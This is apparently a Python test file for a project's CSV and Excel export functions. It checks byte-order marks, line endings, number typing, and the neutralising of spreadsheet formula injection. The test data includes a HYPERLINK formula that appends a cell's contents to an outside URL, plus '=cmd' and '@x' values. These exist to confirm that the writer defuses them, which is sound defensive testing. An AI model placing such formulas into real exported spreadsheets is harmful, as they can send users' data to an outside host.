"""The one writer: BOM and CRLF, formulas never evaluated, numbers kept as numbers."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from localaction.core.io import Sheet, csv_bytes, xlsx_bytes

ATTACK = '=HYPERLINK("http://example.com/?"&A1,"click")'


def test_csv_has_bom_crlf_and_guards_formulas() -> None:
    data = csv_bytes(
        ["source", "value", "flag", "note"], [[ATTACK, -12.5, True, None], ["-12.5", 3, False, "@x"]]
    )
    assert data.startswith(b"\xef\xbb\xbf") and b"\r\n" in data and b"\n" not in data.replace(b"\r\n", b"")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[1] == ["'" + ATTACK, "-12.5", "true", ""]
    assert rows[2] == ["-12.5", "3", "false", "'@x"]  # a number written as text stays as written


def test_xlsx_stores_text_as_text_and_numbers_as_numbers() -> None:
    data = xlsx_bytes([Sheet("Records", ["source", "value"], [{"source": ATTACK, "value": 1.5}])])
    ws = load_workbook(io.BytesIO(data)).active
    assert ws is not None
    assert ws["A2"].value == ATTACK and ws["A2"].data_type == "s"
    assert ws["B2"].value == 1.5 and ws["B2"].data_type == "n"


def test_csv_in_chunks_is_the_same_document() -> None:
    from localaction.core.io import csv_bytes, csv_chunks

    rows = [{"a": 1, "b": "=cmd"}, {"a": 2.5, "b": "x\ny"}, {"a": None, "b": "ü"}]
    whole = csv_bytes(["a", "b"], rows)
    assert b"".join(csv_chunks(["a", "b"], [rows[:1], [], rows[1:]])) == whole
    assert b"".join(csv_chunks(["a", "b"], [])) == csv_bytes(["a", "b"], [])
